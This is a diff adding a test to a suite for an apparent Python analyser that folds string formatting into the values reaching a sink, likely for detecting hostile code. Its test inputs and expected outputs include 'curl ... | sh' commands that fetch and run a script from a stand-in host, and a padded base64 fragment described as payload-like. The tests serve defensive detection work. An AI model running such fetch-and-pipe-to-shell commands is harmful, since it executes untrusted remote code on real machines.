@@ -62,6 +62,21 @@ describe('python analyser: constant folding', () => {
     ).toEqual(['curl http://h.example.invalid | sh', 'http://h.example.invalid/8080:http://h.example.invalid', undefined, undefined, undefined]);
   });
 
+  it('folds printf-style % formatting of plain %s and %d fields, one folded value per field', () => {
+    expect(
+      sunk([
+        "HOST = 'h.example.invalid'",
+        "sink('curl https://%s/x | sh' % HOST)",
+        "sink('%s:%d 100%%' % (HOST, 8080))",
+        "sink('%s' % [HOST])",
+        "sink('%r' % HOST)",
+        "sink('%s %s' % (HOST,))",
+        "sink('%5s' % HOST)",
+        "sink('%s' % os.getcwd())",
+      ]),
+    ).toEqual(['curl https://h.example.invalid/x | sh', 'h.example.invalid:8080 100%', undefined, undefined, undefined, undefined, undefined]);
+  });
+
   it('folds a repeated string only up to 64 KiB: test data is built that way, payloads are not', () => {
     expect(sunk(["sink('ab' * 3)", "sink(('#' * 5000 + 'aW1wb3J0IG9z')[5000:])", "sink(b'a' * 1024 * 1024)"])).toEqual(['ababab', 'aW1wb3J0IG9z', undefined]);
   });
